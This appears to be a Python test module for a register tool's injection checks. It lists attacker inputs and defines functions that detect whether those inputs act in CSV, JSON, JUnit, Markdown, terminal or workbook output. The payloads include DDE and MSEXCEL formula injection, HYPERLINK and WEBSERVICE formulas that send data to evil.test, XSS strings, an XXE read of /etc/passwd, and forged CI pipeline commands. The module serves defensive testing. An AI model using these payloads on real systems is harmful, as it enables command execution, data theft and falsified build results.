"""What an attacker types into a register, and how to see that it acts: for tests and tools/check_injection.py."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from xml.etree import ElementTree as ET

from markdown_it import MarkdownIt

PAYLOADS: Mapping[str, str] = {
    "formula": "=1+1",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula at": "@SUM(1,1)",
    "formula behind a tab": "\t=1+1",
    "formula behind a return": "\r=1+1",
    "formula behind a newline": "\n=1+1",
    "formula full width": "＝1+1",
    "dde": "=cmd|' /C calc'!A0",
    "dde plus": "+cmd|' /C calc'!A0",
    "dde old": "@SUM(1+9)*cmd|' /C calc'!A0",
    "msexcel": "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\regsvr32'!'/s'",
    "hyperlink": '=HYPERLINK("http://evil.test/?"&A1,"open")',
    "webservice": '=WEBSERVICE("http://evil.test/")',
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "attribute": '" onmouseover="alert(1)" x="',
    "attribute single": "' onfocus='alert(1)' autofocus='",
    "end of style": "</style></title></textarea><iframe src=javascript:alert(1)>",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "template": "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "markdown link": "[open](javascript:alert(1))",
    "markdown image": "![x](http://evil.test/x.png)",
    "markdown auto link": "<http://evil.test/>",
    "markdown html": "**x** <b onclick=alert(1)>y</b>",
    "markdown table": "a | b | c",
    "markdown heading": "# Approved\n\nAll is well",
    "markdown code": "``` `x` ~~~",
    "markdown reference": "[x]: http://evil.test/ [x]",
    "csv quote": '","=1+1","',
    "csv newline": '"\r\n=1+1,2,3',
    "csv semicolon": ";=1+1;",
    "json end": '"}],"status":"clean","x":[{"a":"',
    "json backslash": '\\","status":"clean',
    "terminal colour": "\x1b[31mred\x1b[0m",
    "terminal link": "\x1b]8;;http://evil.test/\x1b\\open\x1b]8;;\x1b\\",
    "terminal title": "\x1b]0;owned\x07",
    "terminal c1": "\x9b31m \x9d0;owned\x9c",
    "terminal clear": "\x1b[2J\x1b[H\x08\x08",
    "direction": "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff",
    "github command": "::error file=a,line=1::wrong",
    "github command behind a newline": "x\n::set-output name=a::b",
    "github group": "##[group]x",
    "azure command": "##vso[task.setvariable variable=x]y",
    "azure command inside": "x ##vso[task.complete result=Succeeded]done",
    "teamcity": "##teamcity[buildStatus status='SUCCESS']",
    "xml end": "]]></failure></testcase></testsuite><testsuite tests='0'>",
    "xml entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "xml control": "a\x00\x01\x0b\x1fb\ufffe\uffff",
    "excel escape": "_x0000_ _x000D_ _x003D_1+1",
}

Faults = Iterator[str]
"""What of the payloads acts in an output, one sentence each."""

_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\ufeff\ufffe\uffff]")
_COMMAND = re.compile(r"^\s*::[A-Za-z]|##(?:\w*)\[", re.MULTILINE)
_FORMULA = re.compile(r"^[\s]*[=+@\t\r＝＋－＠]|^-\D|^-\d+[^\d-]", re.DOTALL)
_JUNIT = {"testsuites", "testsuite", "testcase", "failure", "error", "system-out"}


def of_console(text: str) -> Faults:
    """In what is printed on a terminal or into the log of a pipeline."""
    for what, pattern in (("control character", _CONTROL), ("command of a pipeline", _COMMAND)):
        if found := pattern.search(text):
            yield f"{what} {text[max(0, found.start() - 20) : found.end() + 20]!r}"


def of_text(text: str) -> Faults:
    """In text for people."""
    yield from of_console(text)


def of_csv(text: str) -> Faults:
    """In CSV: a cell that a spreadsheet calculates, a row that is broken, and all that acts in a log."""
    yield from of_console(text.replace("\r\n", "\n"))
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    if len({len(row) for row in rows}) > 1:
        yield "the rows have not the same number of cells"
    yield from (f"formula {cell[:60]!r}" for row in rows for cell in row if _FORMULA.search(cell))


def of_json(text: str) -> Faults:
    """In JSON: another structure, and all that acts in a log."""
    yield from of_console(text)
    json.loads(text, object_pairs_hook=_once)
    if not text.isascii():
        yield "characters that are not ASCII"


def _once(pairs: list[tuple[str, object]]) -> dict[str, object]:
    if len({key for key, _ in pairs}) != len(pairs):
        raise ValueError(f"a key stands twice: {[key for key, _ in pairs]}")
    return dict(pairs)


def of_junit(text: str) -> Faults:
    """In JUnit XML: an element that is none of the form."""
    yield from of_console(text)
    yield from (f"element {each.tag}" for each in ET.fromstring(text).iter() if each.tag not in _JUNIT)  # noqa: S314


def of_markdown(text: str) -> Faults:
    """In Markdown, as CommonMark with tables reads it: markup, links and pictures that only a payload can have made."""
    yield from of_console(text)
    for token in _walked(MarkdownIt("commonmark").enable("table").parse(text)):
        if token.type in {"html_inline", "html_block", "image", "link_open", "code_inline", "fence"}:
            yield f"{token.type} {token.content[:60]!r} {dict(token.attrs)}"
    if re.search(r"^#+ Approved", text, re.MULTILINE):
        yield "a heading"


def _walked(tokens: list) -> Iterator:  # type: ignore[type-arg]
    for each in tokens:
        yield each
        yield from _walked(each.children or [])


def of_workbook(content: bytes) -> Faults:
    """In the sheets of a workbook: formulas, links that lead out, and other parts that fetch something."""
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            data = package.read(name)
            if name.startswith("xl/worksheets/sheet"):
                for element in ET.fromstring(data).iter():  # noqa: S314 - made by us
                    tag = element.tag.rpartition("}")[2]
                    if tag == "f":
                        yield f"formula {element.text!r} in {name}"
                    if tag == "c" and element.get("t") in {"str", "e"}:
                        yield f"a calculated cell {element.get('r')} in {name}"
            if name.endswith(".rels") and b"External" in data:
                yield f"a link out of the workbook in {name}"
            if "externalLink" in name:
                yield name


Check = Callable[[str], Faults]

PRINTED: Mapping[tuple[str, ...], Check] = {
    ("validate",): of_text,
    ("validate", "--format", "json"): of_json,
    ("validate", "--format", "csv"): of_csv,
    ("validate", "--format", "junit"): of_junit,
    ("validate", "--format", "sarif"): of_json,
    ("reuse",): of_text,
    ("reuse", "--format", "json"): of_json,
    ("reuse", "--format", "csv"): of_csv,
    ("reuse", "--matrix", "--all", "--format", "csv"): of_csv,
    ("reuse", "--suggest", "--top", "0", "--format", "csv"): of_csv,
    ("matrix",): of_text,
    ("matrix", "--format", "json"): of_json,
    ("matrix", "--format", "csv"): of_csv,
    ("trackers",): of_text,
    ("trackers", "--format", "json"): of_json,
    ("trackers", "--format", "csv", "--side", "ISO"): of_csv,
    ("owners",): of_text,
    ("owners", "--format", "csv"): of_csv,
    ("executive",): of_text,
    ("route",): of_text,
    ("route", "--format", "csv"): of_csv,
    ("report",): of_markdown,
    ("report", "--format", "json"): of_json,
}
"""Every command that prints what users have typed, and what must not be in it; a new writer is one line."""

WRITTEN: tuple[tuple[str, ...], ...] = (
    ("validate", "--notes", "--mark"),
    ("reuse",),
    ("matrix",),
    ("trackers",),
    ("owners",),
    ("executive",),
    ("route",),
)
"""Every command that writes what users have typed into sheets, by --output."""
